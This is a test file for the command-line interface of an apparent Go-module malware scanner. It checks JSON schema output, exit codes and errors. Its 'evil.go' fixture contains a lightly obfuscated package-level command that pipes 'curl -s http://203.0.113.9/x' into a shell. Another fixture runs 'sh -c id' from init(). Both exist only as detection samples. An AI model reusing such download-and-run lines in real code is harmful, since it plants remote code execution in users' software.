// The CLI contract of issue 2: output validates against the published schema, exit codes, errors.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { AnalysisResult } from '../src/result/schema.js';

const root = fileURLToPath(new URL('../../', import.meta.url));
const cli = join(root, 'dist/src/cli/main.js');

export function runCli(args: string[], opts: { cwd?: string; env?: NodeJS.ProcessEnv } = {}) {
  const r = spawnSync(process.execPath, [cli, ...args], {
    cwd: opts.cwd ?? root,
    env: { ...process.env, NO_COLOR: '1', ...opts.env },
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function validator() {
  const schema = JSON.parse(readFileSync(join(root, 'schema/result.schema.json'), 'utf8')) as object;
  const ajv = new Ajv2020({ strict: false, allErrors: true });
  (addFormats as unknown as (a: Ajv2020) => void)(ajv);
  return ajv.compile(schema);
}

test('the published schema file is the one generated from the result type', () => {
  const published = JSON.parse(readFileSync(join(root, 'schema/result.schema.json'), 'utf8')) as unknown;
  assert.deepEqual(published, JSON.parse(JSON.stringify(AnalysisResult)), 'run `npm run schema` and commit schema/result.schema.json');
});

function tinyModule(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'gosnare-cli-'));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  return dir;
}

test('analyze --format json on a malicious-shaped module: schema-valid, malicious, exit 1, finding fields present', () => {
  const dir = tinyModule({
    'go.mod': 'module example.test/evil\n\ngo 1.22\n',
    'evil.go': 'package evil\n\nimport "os/exec"\n\nvar _ = exec.Command("/bi"+"n/sh", "-c", "curl -s http://203.0.113.9/x | sh").Start()\n',
  });
  const r = runCli(['analyze', dir, '--static-only', '--format', 'json']);
  assert.equal(r.code, 1, r.stderr);
  const result = JSON.parse(r.stdout) as AnalysisResult;
  const validate = validator();
  assert.ok(validate(result), JSON.stringify(validate.errors));
  assert.equal(result.module.path, 'example.test/evil');
  assert.equal(result.verdict.level, 'malicious');
  assert.ok(result.verdict.reasons.length > 0);
  const f = result.static.findings.find((x) => x.file === 'evil.go' && x.line === 5);
  assert.ok(f, 'a finding on the package-level exec line');
  assert.equal(f.column >= 1, true);
  assert.match(f.snippet, /exec\.Command/);
  assert.ok(result.static.findings.some((x) => x.recoveredStrings.some((s) => s.includes('/bin/sh'))), 'the folded /bin/sh is reported');
  assert.ok(result.static.iocs.ips.includes('203.0.113.9'));
});

test('analyze on a clean module exits 0 with verdict clean', () => {
  const dir = tinyModule({
    'go.mod': 'module example.test/fine\n\ngo 1.22\n',
    'fine.go': 'package fine\n\nimport "strings"\n\nfunc Up(s string) string { return strings.ToUpper(s) }\n',
  });
  const r = runCli(['analyze', dir, '--static-only', '--format', 'json']);
  assert.equal(r.code, 0, r.stderr);
  assert.equal((JSON.parse(r.stdout) as AnalysisResult).verdict.level, 'clean');
});

test('text format names file:line and uses no colour when not a TTY', () => {
  const dir = tinyModule({
    'go.mod': 'module example.test/evil2\n\ngo 1.22\n',
    'a.go': 'package evil2\n\nimport x "os/exec"\n\nfunc init() { x.Command("sh", "-c", "id").Run() }\n',
  });
  const r = runCli(['analyze', dir, '--static-only']);
  assert.equal(r.code, 1);
  assert.match(r.stdout, /a\.go:5:/);
  assert.match(r.stdout, /MALICIOUS/);
  assert.doesNotMatch(r.stdout, /\x1b\[/);
});

test('bad input: one-line error, exit 2', () => {
  const missing = runCli(['analyze', '/nonexistent/dir', '--static-only']);
  assert.equal(missing.code, 2);
  assert.equal(missing.stderr.trim().split('\n').length, 1, missing.stderr);
  assert.match(missing.stderr, /nonexistent/);

  const notZip = join(mkdtempSync(join(tmpdir(), 'gosnare-cli-')), 'x.zip');
  writeFileSync(notZip, 'this is not a zip');
  const bad = runCli(['analyze', notZip, '--static-only']);
  assert.equal(bad.code, 2, bad.stderr);
  assert.match(bad.stderr, /x\.zip/);

  const usage = runCli(['analyze', '--format', 'yaml', 'x']);
  assert.equal(usage.code, 2);
  const noArgs = runCli(['bogus-command']);
  assert.equal(noArgs.code, 2);
});

test('--out writes one JSON file per target', () => {
  const dir = tinyModule({ 'go.mod': 'module example.test/o\n\ngo 1.22\n', 'o.go': 'package o\n' });
  const out = mkdtempSync(join(tmpdir(), 'gosnare-out-'));
  const r = runCli(['analyze', dir, '--static-only', '--format', 'json', '--out', out]);
  assert.equal(r.code, 0, r.stderr);
  const written = spawnSync('ls', [out], { encoding: 'utf8' }).stdout.trim().split('\n');
  assert.equal(written.length, 1);
  const saved = JSON.parse(readFileSync(join(out, written[0]!), 'utf8')) as AnalysisResult;
  assert.equal(saved.module.path, 'example.test/o');
});

test('output whose reader has gone (rules list | true) ends quietly with exit 0', () => {
  const r = spawnSync('bash', ['-c', `set -o pipefail; "${process.execPath}" "${cli}" rules list | true`], { encoding: 'utf8' });
  assert.equal(r.stderr, '');
  assert.equal(r.status, 0);
});
